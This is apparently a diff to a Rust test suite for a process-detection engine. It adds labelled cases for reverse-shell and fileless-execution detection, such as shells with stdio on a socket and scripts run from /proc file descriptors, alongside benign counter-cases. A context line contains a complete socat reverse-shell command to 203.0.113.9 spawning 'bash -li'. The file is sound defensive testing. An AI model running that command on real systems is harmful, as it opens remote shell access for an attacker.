@@ -139,7 +139,47 @@ fn shells_on_the_network() {
                 "reverse-shell-one-liner",
                 exec("/usr/bin/socat1", "socat TCP:203.0.113.9:443 EXEC:'bash -li',pty,stderr", json!({})),
             ),
+            (
+                "reverse-shell-command",
+                exec(
+                    "/usr/bin/id",
+                    "id",
+                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": false}),
+                ),
+            ),
+            (
+                "reverse-shell-command",
+                exec(
+                    "/usr/bin/dash",
+                    "sh -c id",
+                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": false}),
+                ),
+            ),
             // Honest.
+            (
+                "",
+                exec(
+                    "/usr/bin/dash",
+                    "sh -c id",
+                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": true}),
+                ),
+            ),
+            (
+                "",
+                exec(
+                    "/usr/bin/id",
+                    "id",
+                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": true}),
+                ),
+            ),
+            (
+                "",
+                exec(
+                    "/usr/bin/cat",
+                    "cat",
+                    json!({"process.stdio.socket": true, "ParentImage": "/usr/bin/bash", "process.parent.stdio.socket": false}),
+                ),
+            ),
             ("", exec("/usr/bin/bash", "-bash", relayed("/usr/sbin/sshd"))),
             ("", exec("/usr/bin/bash", "bash", relayed("/usr/lib/openssh/sshd-session"))),
             ("", exec("/usr/bin/dash", "sh", relayed("/usr/bin/containerd-shim-runc-v2"))),
@@ -231,6 +271,10 @@ fn programs_without_a_file() {
             ("", exec("/memfd:x", "x", json!({"process.memfd": true, "ParentProcessId": 1, "source": "sensor"}))),
             ("fileless-deleted", exec("/tmp/x", "x", deleted())),
             ("fileless-deleted", exec("/home/a/.cache/x", "x", deleted())),
+            ("fileless-descriptor", exec("/usr/bin/dash", "/bin/sh /proc/self/fd/9", json!({}))),
+            ("fileless-descriptor", exec("/usr/bin/python3.11", "python3 -u /proc/77/fd/3 a", json!({}))),
+            ("", exec("/usr/bin/bash", "bash /dev/fd/63", json!({}))),
+            ("", exec("/usr/bin/wc", "wc -c /proc/self/fd/3", json!({}))),
             ("fileless-shm", exec("/dev/shm/x", "x", json!({"process.in_shm": true}))),
             ("fileless-shm", exec("/usr/bin/bash", "bash /dev/shm/x.sh", json!({}))),
             ("fileless-shm", exec("/usr/bin/dash", "/bin/sh -e /dev/shm/x.sh a b", json!({}))),
